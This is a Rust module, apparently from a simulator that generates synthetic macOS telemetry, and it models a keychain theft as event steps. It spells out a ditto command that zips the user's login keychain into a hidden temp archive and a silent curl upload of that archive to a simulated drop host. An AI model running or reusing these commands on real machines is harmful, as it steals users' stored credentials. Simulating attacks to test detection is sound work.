//! A quiet theft: a keychain is packed, and much later the archive is sent.

use std::collections::VecDeque;

use crate::mac::{Job, Mac};
use crate::programs::{CURL, DITTO};
use crate::step::{Action, Connection, Remote, Step};

/// Size of the archive.
const ARCHIVE: u64 = 153_600;

fn archive(mac: &Mac) -> String {
    format!("/private/tmp/.cache-{}.zip", mac.number)
}

/// Packs the login keychain.
pub fn pack(mac: &mut Mac) -> VecDeque<Step> {
    let (home, archive, shell) = (mac.home.clone(), archive(mac), mac.staff.shell.clone());
    let keychain = format!("{home}/Library/Keychains/login.keychain-db");
    let mut job = Job::new(mac);
    let ditto = job.spawn(&shell, &DITTO, &["ditto", "-c", "-k", &keychain, &archive], &home);
    job.read(&ditto, &keychain, 212_992);
    job.make(&ditto, &archive, ARCHIVE);
    job.step(&ditto, Action::Exit);
    job.steps
}

/// Sends the archive.
pub fn send(mac: &mut Mac) -> VecDeque<Step> {
    let (home, archive, shell) = (mac.home.clone(), archive(mac), mac.staff.shell.clone());
    let remote = Remote::Drop(mac.number);
    let (form, url) = (format!("file=@{archive}"), format!("https://{}/up", remote.name()));
    let mut job = Job::new(mac);
    let curl = job.spawn(&shell, &CURL, &["curl", "-s", "-F", &form, &url], &home);
    job.step(&curl, Action::Open { path: archive.clone(), size: ARCHIVE, write: false });
    job.step(&curl, Action::Connect(Connection { remote, sent: ARCHIVE + 2_300, received: 5_200, milliseconds: 300 }));
    job.step(&curl, Action::Close { path: archive, size: ARCHIVE, modified: false });
    job.step(&curl, Action::Exit);
    job.steps
}
